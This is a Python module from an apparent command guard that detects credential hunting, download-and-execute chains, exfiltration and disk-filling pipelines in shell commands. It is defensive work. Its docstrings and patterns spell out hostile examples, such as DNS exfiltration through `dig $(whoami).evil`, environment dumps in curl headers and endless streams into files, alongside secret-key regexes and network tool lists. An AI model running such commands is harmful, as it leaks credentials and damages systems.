"""Judgement across commands, with the per-command rules of :mod:`~teragent_shellguard.rules`.

:func:`secret_search` spots credential hunting (a recursive search of ``/`` or home whose
pattern matches issued secrets or key file names); :func:`judge_pipeline` the data flow of a
pipeline (downloaded or decoded text into a shell, a credential read upstream of a network
client, text fixed in the command run as what it becomes); :func:`judge_list` a command
list (a file downloaded, decoded or written by one command and run by a later one);
:func:`judge_substitutions` command output placed in a network request.
"""

from __future__ import annotations

import fnmatch
import re
import warnings
from typing import TYPE_CHECKING

from teragent_shellguard import pathclass as pc
from teragent_shellguard.chains import _is_decoder, _reads_stdin_script
from teragent_shellguard.effects import _SQL_STMT, Effect
from teragent_shellguard.rules import _W, _one
from teragent_shellguard.tables import DB_CLIENTS, IO, NET_DNS, SHELL_NAMES

if TYPE_CHECKING:
    from teragent_shellguard.engine import Ctx
    from teragent_shellguard.parser import Command, Script

__all__ = ["secret_search", "judge_pipeline", "judge_list", "judge_substitutions"]


# -- across commands ---------------------------------------------------------------------

_SECRET_SEARCH = re.compile(r"(?i)private key|id_rsa|id_ed25519|id_ecdsa|\.pem\b|\.key\b|\.p12\b|\.pfx\b|\.kdbx\b|"
                            r"secret|passw|token|api_?key|credential|aws_access|\.env\b|wallet|"
                            # the shapes of issued keys: AWS, GitHub, Slack, OpenAI-style, GitLab, Google
                            r"\b(?:AKIA|ASIA)|\bgh[pousr]_|github_pat_|\bxox[abpr]-|\bsk-|\bglpat-|\bAIza")
#: file names of keys and credential stores, to recognise a glob that hunts for them (``-name 'id_*'``)
_CREDENTIAL_NAMES = ("id_rsa", "id_ed25519", "id_ecdsa", "id_dsa", "credentials", "server.key", "cert.pem", ".netrc",
                     ".pgpass", ".git-credentials", "wallet.dat", "vault.kdbx", "cert.pfx", "cert.p12", "secrets.json")
_ORDINARY_NAMES = ("main.py", "README.md", "index.js", "Makefile", "notes.txt", "app.log", "package.json")
#: what issued secrets look like, to test a search pattern against (``grep -rE 'xox[bp]-'``) rather than its spelling
_SECRET_SAMPLES = ("AKIAIOSFODNN7EXAMPLE", "ghp_" + "a1B2" * 9, "github_pat_11AAAAAAA0", "xoxb-1234-5678-abcdEFGH",
                   "sk-" + "A1b2" * 12, "glpat-" + "x1Y2" * 5, "AIza" + "S1y2" * 9,
                   "-----BEGIN OPENSSH PRIVATE KEY-----", "-----BEGIN RSA PRIVATE KEY-----")
_ORDINARY_TEXT = ("def main():", "hello world", "import os", "the quick brown fox", "README", "1234", "x")


_FD_TAKES = frozenset({"-e", "--extension", "-t", "--type", "-d", "--max-depth", "-E", "--exclude", "-x", "--exec",
                       "-X", "--exec-batch", "-S", "--size", "-c", "--color", "-j", "--threads", "--changed-within"})


def _hunts_secrets(pattern: str, names: bool) -> bool:
    """Whether a search pattern (a regex, as grep -E/rg/fd read it) matches issued secrets or, for
    file-name searches, key file names, while not matching ordinary text."""
    if len(pattern) < 3 or len(pattern) > 200:
        return False
    try:
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")
            rx = re.compile(pattern.replace("[[:alnum:]]", "[A-Za-z0-9]").replace("[[:upper:]]", "[A-Z]"))
    except (re.error, RecursionError, ValueError):
        return False
    samples = _SECRET_SAMPLES + (_CREDENTIAL_NAMES if names else ())
    ordinary = _ORDINARY_TEXT + (_ORDINARY_NAMES if names else ())
    return any(rx.search(x) for x in samples) and not any(rx.search(x) for x in ordinary)


_SEARCHERS = frozenset({"grep", "egrep", "fgrep", "rg", "ag", "ack", "find", "fd", "locate", "get-childitem", "gci",
                        "select-string", "sls", "findstr"})


def secret_search(name: str, words: list[str], ctx: Ctx) -> None:
    """A recursive search of ``/`` or home for key files or secret words (credential hunting)."""
    if name not in _SEARCHERS:
        return
    args = words[1:]
    roots = [a for a in args if pc.is_pathlike(a) and pc.classify(a) in (pc.ROOT, pc.HOMEDIR, pc.SYSTEM)]
    if not roots and name in ("find", "fd", "locate") and args and not args[0].startswith("-") and \
            pc.classify(args[0]) in (pc.ROOT, pc.HOMEDIR):
        roots = [args[0]]
    if not roots and name != "locate":
        return
    recursive = name in ("find", "fd", "locate", "rg", "ag", "ack") or "-recurse" in (a.lower() for a in args) or any(
        a.startswith("-") and not a.startswith("--") and ("r" in a or "R" in a) or a == "--recursive" for a in args)
    globs = [g for i, a in enumerate(args[:-1]) if a.lower() in ("-name", "-iname", "-path", "-ipath", "-g", "--glob",
                                                                  "-include", "-filter") for g in args[i + 1].split(",")]
    hunting = any(any(fnmatch.fnmatch(n, g) for n in _CREDENTIAL_NAMES) and
                  not any(fnmatch.fnmatch(n, g) for n in _ORDINARY_NAMES) for g in globs)
    takes = _FD_TAKES if name == "fd" else IO[name].takes if name in IO else frozenset()
    patterns = [a for i, a in enumerate(args) if a not in roots and not a.startswith("-") and
                (i == 0 or args[i - 1] not in takes or args[i - 1] in ("-e", "--regexp") and name != "fd")]
    hunting = hunting or any(_hunts_secrets(p, name in ("fd", "locate")) for p in patterns)
    if recursive and (hunting or any(_SECRET_SEARCH.search(a) for a in args if a not in roots)):
        ctx.block("credential_theft", f"searches {roots[0] if roots else 'the disk'} for keys or secrets: "
                                      f"'{name} {' '.join(args)[:60]}'")


_DOWNLOADERS = frozenset({"curl", "wget", "wget2", "fetch", "aria2c", "http", "https", "xh", "httpie", "curlie",
                          "lwp-request", "lynx", "w3m", "ftp", "tftp", "lftp", "nc", "socat", "openssl", "ssh"})
_TRANSFORMERS = frozenset({"base64", "base32", "basenc", "xxd", "gpg", "gpg2", "age", "openssl", "gunzip", "zcat", "gzip",
                           "bzcat", "bunzip2", "xz", "xzcat", "unxz", "zstd", "zstdcat", "lzcat", "uudecode", "rev", "tr",
                           "sed", "awk", "gawk", "printf", "echo", "python", "perl", "ruby", "node", "php", "lua", "iconv",
                           "cut", "jq", "certutil"})
_PIPE_SOURCES = pc.SENSITIVE_READ | {pc.ACCOUNTS, pc.SECRETS, pc.LOG}
_ENV_DUMPERS = frozenset({"env", "printenv", "set", "export", "declare", "compgen"})
_STDIN_EVAL = frozenset({"eval", "source", ".", "sh", "bash", "zsh", "dash", "ksh", "invoke-expression", "iex"})


def _runs_stdin(cmd: Command, info: tuple[str, list[str], list[Effect]] | None, ctx: Ctx) -> bool:
    if cmd.group is not None:  # ``| while read l; do eval "$l"; done``
        return any((i := ctx.effects.get(id(c))) is not None and i[0] in _STDIN_EVAL for c in cmd.group.walk())
    if cmd.words:
        from teragent_shellguard.engine import cmd_name

        if cmd_name(cmd.words[0]) in ("xargs", "parallel"):
            return any(w.rsplit("/", 1)[-1] in SHELL_NAMES for w in cmd.words[1:])
    if info is None:
        return False
    name, words, _ = info
    if name == "xargs" or name == "parallel":
        return any(w.rsplit("/", 1)[-1] in SHELL_NAMES for w in words[1:])
    return bool(words) and _reads_stdin_script([name, *words[1:]])


_CODE_LANGS = frozenset({"python", "perl", "ruby", "node", "php", "lua", "bun", "deno"})


def _static_text(cmd: Command, info: tuple[str, list[str], list[Effect]] | None) -> str | None:
    """The text a stage prints when it is fixed in the command itself: ``echo 'x'``,
    ``printf 'x'`` without escapes or ``%`` formats, ``cat <<EOF`` with no file argument."""
    if info is None or cmd.subs:
        return None
    name, words, _ = info
    args = words[1:]
    if name == "cat" and cmd.stdin_text is not None and not any(not a.startswith("-") for a in args):
        return cmd.stdin_text
    if name not in ("echo", "printf") or not args:
        return None
    if name == "echo" and args[0] in ("-n", "-E"):
        args = args[1:]
    text = " ".join(args)
    if name == "printf" or args[:1] == ["-e"]:
        text = text.removeprefix("-e ").replace("\\n", "\n").replace("\\t", "\t")
    if not text or "\\" in text or "`" in text or (name == "printf" and ("%" in text or len(args) > 1)):
        return None  # escapes, formats and back-quotes build text at run time: judged as generated text
    return text


def _run_static(text: str, runner: str, ctx: Ctx) -> None:
    """Check text fixed in the command and fed to ``runner`` as what it is: a script or code."""
    if runner in _CODE_LANGS:
        ctx.check_code(runner, text)
    else:
        ctx.check_text(text, f"text piped into {runner}")


_ENDLESS_DEVICES = ("/dev/zero", "/dev/urandom", "/dev/random")
_LIMITERS = frozenset({"head", "dd", "timeout", "sed", "awk", "grep", "read"})


def _endless_into_file(cmds: list[Command], stages: list[tuple[str, list[str], list[Effect]]], ctx: Ctx) -> None:
    """``cat /dev/urandom | gzip > f``, ``yes | tr y n > f``: an endless stream, no stage that stops it,
    written into a file."""
    if len(stages) < 2 or len(stages) != len(cmds):
        return
    name, words, _ = stages[0]
    endless = name == "yes" or name == "seq" and "inf" in words[1:] or name in ("cat", "pv") and any(
        w in _ENDLESS_DEVICES for w in words[1:])
    if not endless or any(n in _LIMITERS for n, _, _ in stages[1:]):
        return
    if any(e.kind in ("write", "append") and e.cls not in (pc.NULL, pc.DEVICE, pc.DISK) for e in stages[-1][2]):
        ctx.block("resource_exhaustion", f"writes an endless stream from '{name}' into a file (fills the disk)")


def judge_pipeline(pipe: object, ctx: Ctx) -> None:
    """Data flow along a pipeline: downloaded or decoded text into a shell, sensitive data
    (credential files, the environment) into a network client, SQL text into a database.
    Text written out in the command itself (``echo 'print(1)' | python3``, ``cat <<EOF | sh``)
    is not hidden: it is checked as the script or code it becomes."""
    cmds = pipe.cmds  # type: ignore[attr-defined]
    upstream: list[str] = []
    for i, cmd in enumerate(cmds):
        info = ctx.effects.get(id(cmd))
        if i == 1 and info is not None and _runs_stdin(cmd, info, ctx):
            text = _static_text(cmds[0], ctx.effects.get(id(cmds[0])))
            if text is not None:
                _run_static(text, info[0], ctx)
                break
        if i and _runs_stdin(cmd, info, ctx):
            if any(n in _DOWNLOADERS for n in upstream):
                ctx.block("download_exec", f"runs downloaded content: '{' | '.join(upstream)}' feeds a program that executes its input")
                break
            gen = [n for n in upstream if n in _TRANSFORMERS]
            if gen:
                ctx.block("obfuscation", f"runs generated or decoded text: '{gen[-1]}' feeds a program that executes its input")
                break
        if info is not None:
            name, words, _ = info
            if i and name in DB_CLIENTS:
                prev = ctx.effects.get(id(cmds[i - 1]))
                if prev and prev[0] in ("echo", "printf"):
                    for stmt in _SQL_STMT.findall(" ".join(prev[1][1:])):
                        _one(Effect("sql", stmt, "", f"{prev[0]} ... | {name} {' '.join(words[1:])}"), name, False, ctx)
            upstream.append(name)
        elif cmd.group is not None:
            upstream.extend(ctx.effects[id(c)][0] for c in cmd.group.walk() if id(c) in ctx.effects)
    stages = [ctx.effects[id(c)] for c in cmds if id(c) in ctx.effects]
    _endless_into_file(cmds, stages, ctx)
    _lists_then_deletes(cmds, ctx)
    source: str | None = None
    for name, words, effects in stages:
        if source and any(e.kind in ("net", "dns", "send") for e in effects) and name not in ("jq", "grep"):
            ctx.block("exfiltration", f"sends {source} to the network through '{name}'")
            return
        source = secret_source(name, words, effects) or source


def secret_source(name: str, words: list[str], effects: list[Effect]) -> str | None:
    """What secret-bearing data a command writes to its output, if any: a credential file it reads,
    the environment, shell history, a database dump, infrastructure state or outputs."""
    source = None
    for e in effects:
        if e.kind in ("read", "mention") and e.cls in _PIPE_SOURCES:
            source = f"{_W[e.cls]} ('{e.target}')"
    low = [w.lower() for w in words[1:] if not w.startswith("-")]
    if name in ("env", "printenv", "set", "export", "declare", "get-childitem") and len(words) <= 2 and \
            (name != "get-childitem" or "env:" in " ".join(words).lower()):
        source = "the environment"
    elif name in _DUMPERS and not any(w.split("=", 1)[0] in _DUMP_TO_FILE for w in words[1:]):
        source = f"a database dump ('{name}')"
    elif name in ("history", "get-history") or name == "fc" and any(
            w.startswith("-") and "l" in w[1:] for w in words[1:]):
        source = "shell history"
    elif name in ("terraform", "tofu", "terragrunt") and (low[:1] == ["output"] or low[:2] == ["state", "pull"] or
                                                          low[:1] == ["show"] and "-json" in words):
        source = f"infrastructure state or outputs (they hold secrets) ('{name} {' '.join(low[:2])}')"
    return source


#: programs that write a whole database to stdout
_DUMPERS = frozenset({"pg_dump", "pg_dumpall", "mysqldump", "mariadb-dump", "mongodump", "mongoexport"})
_DUMP_TO_FILE = frozenset({"-f", "--file", "-o", "--out", "--output", "--result-file"})
#: verbs that delete the items named after them
_DELETE_VERBS = frozenset({"del", "unlink", "delete", "uninstall", "rm", "remove", "destroy", "drop", "rmi", "purge"})


def _lists_then_deletes(cmds: list[Command], ctx: Ctx) -> None:
    """``P list | xargs P delete``: a program fed its own listing deletes everything it holds
    (every key, release, container). A filter stage in between (``| grep X``) leaves a warning."""
    for prev_cmd, cmd in zip(cmds, cmds[1:]):
        prev, cur = ctx.effects.get(id(prev_cmd)), ctx.effects.get(id(cmd))
        if not prev or not cur or prev[0] != cur[0] or not cmd.words:
            continue
        if cmd.words[0].rsplit("/", 1)[-1] not in ("xargs", "parallel"):
            continue
        if any(w.lower() in _DELETE_VERBS for w in cur[1][1:] if not w.startswith("-")):
            ctx.block("database_destructive" if cur[0] in DB_CLIENTS else "remote_exec",
                      f"'{cur[0]}' deletes everything its own listing returns: '{' '.join(cmd.words)}'")
            return


_CI_FILES = (r"(?:^|/)\.github/workflows/[^/]+\.ya?ml$|(?:^|/)\.gitlab-ci\.ya?ml$|(?:^|/)\.circleci/config\.ya?ml$|"
             r"(?:^|/)(?:jenkinsfile|azure-pipelines\.ya?ml|bitbucket-pipelines\.ya?ml|\.travis\.ya?ml)$")
#: files another program runs by itself: direnv's .envrc on entering the folder, an editor task set to run on open
_AUTORUN = re.compile(r"(?:^|/)\.envrc$|(?:^|/)\.vscode/tasks\.json$|" + _CI_FILES)
_TASK_COMMAND = re.compile(r'"command"\s*:\s*"((?:[^"\\]|\\.)*)"')
#: a CI step's command: ``- run: CMD``, ``script: [CMD, ...]``, ``- CMD`` under a script key, ``sh 'CMD'``
_CI_STEP = re.compile(r"^\s*(?:-\s*)?(?:run|script|before_script|after_script|command|sh)\s*[:(]?\s*(.+)$|^\s*-\s+(.+)$")
#: the CI's secrets written into a step: become a secret variable of the same name
_CI_SECRET = re.compile(r"\$\{\{\s*(?:tojson\(\s*secrets\s*\)|secrets\.(\w+))\s*\}\}", re.I)


def _autorun(path: str, text: str, ctx: Ctx) -> None:
    """Text written into a file that runs by itself is checked as the script it becomes:
    ``.envrc`` (direnv), a VS Code task run on folder open, CI pipeline steps."""
    if path.endswith(".envrc"):
        _run_static(text, "sh", ctx)
    elif path.endswith("tasks.json"):
        if "folderopen" in text.lower():
            for command in _TASK_COMMAND.findall(text):
                _run_static(command, "sh", ctx)
    else:
        text = _CI_SECRET.sub(lambda m: "$" + (m.group(1) or "ALL") + "_SECRET", text)
        for line in text.splitlines():
            m = _CI_STEP.match(line)
            step = (m.group(1) or m.group(2) or "").strip().strip("[]").strip().strip("'\"|>") if m else ""
            if step and not step.endswith(":"):
                _run_static(step, "sh", ctx)


def _key(path: str) -> str:
    """One spelling per file: ``./a.sh`` and ``a.sh``; ``%TEMP%\\a.bat`` and ``%temp%/a.bat``."""
    p = path.strip("\"'").replace("\\", "/")
    if "%" in p or p.lower().startswith("$env:") or p[1:2] == ":":
        p = p.lower()
    return p.lstrip("./") if not p.startswith("../") else p


def judge_list(script: Script, ctx: Ctx, effects_of: dict[int, tuple[str, list[str], list[Effect]]]) -> None:
    """A file made by one command and executed by a later one in the same list: downloaded
    (refused), decoded (refused: its text is hidden) or written from text in the command
    (that text is checked as the script or code it becomes)."""
    downloaded: dict[str, str] = {}
    written: dict[str, tuple[str | None, str]] = {}  # path -> (static text, or None when decoded; the writer)
    tainted: dict[str, str] = {}  # path -> the secret-bearing data written into it
    for pipe in script.pipelines:
        decoded = False
        for pos, cmd in enumerate(pipe.cmds):
            info = effects_of.get(id(cmd))
            if info is None:
                continue
            name, words, effects = info
            decoded = decoded or _is_decoder([name, *words[1:]])
            text = _static_text(cmd, info) if pos == 0 else None
            writes = any(e.kind in ("write", "append") for e in effects)
            src = secret_source(name, words, effects) if writes else None
            for e in effects:
                if tainted and e.kind == "send" and _key(e.target) in tainted:
                    ctx.block("exfiltration", f"sends '{e.target}' to the network: it holds {tainted[_key(e.target)]}")
                    return
                if src and e.kind in ("write", "append"):
                    tainted[_key(e.target)] = src
                if text is not None and e.kind in ("write", "append") and _AUTORUN.search(e.target.replace("\\", "/").lower()):
                    _autorun(e.target, text, ctx)
                if e.kind == "download":
                    downloaded[_key(e.target)] = e.word
                elif e.kind in ("write", "append") and e.word.startswith((">", "tee")) and (decoded or text is not None):
                    old = written.get(_key(e.target), ("", ""))[0] if e.kind == "append" else ""
                    body = None if decoded or old is None else (old + "\n" + (text or "")).strip("\n")
                    written[_key(e.target)] = (body, f"{name} ... {e.word}")
            if not downloaded and not written:
                continue
            target = None
            w0 = words[0].replace("\\", "/") if words else ""
            if _key(w0) in downloaded and "/" in w0 or name in downloaded or ("/" in w0 and _key(w0) in written):
                target = w0
            elif name in SHELL_NAMES | {"source", ".", "python", "perl", "ruby", "node", "php", "bun", "deno", "osascript"}:
                target = next((w for w in words[1:] if not w.startswith("-")), None)
            if not target:
                continue
            key = _key(target)
            if key in downloaded:
                ctx.block("download_exec", f"runs '{target}', downloaded earlier by '{downloaded[key]}'")
                return
            if key in written:
                body, writer = written[key]
                if body is None:
                    ctx.block("obfuscation", f"runs '{target}', decoded earlier by '{writer}' (its text cannot be checked)")
                    return
                _run_static(body, name if name in _CODE_LANGS else "sh", ctx)


def judge_substitutions(cmd: Command, ctx: Ctx) -> None:
    """Command output placed in a network request: ``curl -H "X: $(env)"``, ``dig $(whoami).evil``."""
    name, _, effects = ctx.effects[id(cmd)]
    kinds = {e.kind for e in effects}
    if not kinds & {"net", "dns", "send"}:
        return
    for _kind, sub, idx in cmd.subs:
        if idx < 1:
            continue
        inner = [ctx.effects[id(c)] for c in sub.walk() if id(c) in ctx.effects]
        if name in NET_DNS:
            ctx.block("exfiltration", f"'{name}' looks up a host name built from command output (DNS exfiltration)")
            return
        for iname, iwords, ieffects in inner:
            if iname in _ENV_DUMPERS and len(iwords) <= 2 or any(
                    e.kind in ("read", "mention") and e.cls in pc.SENSITIVE_SEND for e in ieffects):
                ctx.block("exfiltration", f"'{name}' sends the output of '{' '.join(iwords)[:40]}' to the network")
                return
